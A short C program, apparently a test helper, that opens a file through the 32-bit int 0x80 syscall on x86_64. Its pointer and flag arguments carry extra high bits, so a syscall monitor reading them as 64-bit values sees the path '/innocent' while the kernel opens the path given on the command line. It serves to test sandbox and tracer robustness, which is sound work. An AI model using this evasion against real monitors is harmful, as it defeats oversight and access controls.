/* Opens argv[1] by int 0x80 with words above the 32 bits that the kernel takes: where they point
 * to as 64 bits, another path stands. Linked to low addresses. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

int main(int argc, char **argv)
{
    char *low = mmap((void *)0x10000000, 4096, PROT_READ | PROT_WRITE,
                     MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0);
    char *high = mmap((void *)0x710000000, 4096, PROT_READ | PROT_WRITE,
                      MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0);
    if (argc < 2 || low == MAP_FAILED || high == MAP_FAILED)
        return 2;
    strcpy(low, argv[1]);
    strcpy(high, "/innocent");
    long result;
#ifdef __x86_64__
    __asm__ volatile("int $0x80"
                     : "=a"(result)
                     : "0"(5L), "b"(high), "c"(0xffffffff00000000 | O_WRONLY | O_CREAT), "d"(0600L)
                     : "r8", "r9", "r10", "r11", "memory");
#else
    result = -1;
#endif
    return (int)result < 0;
}
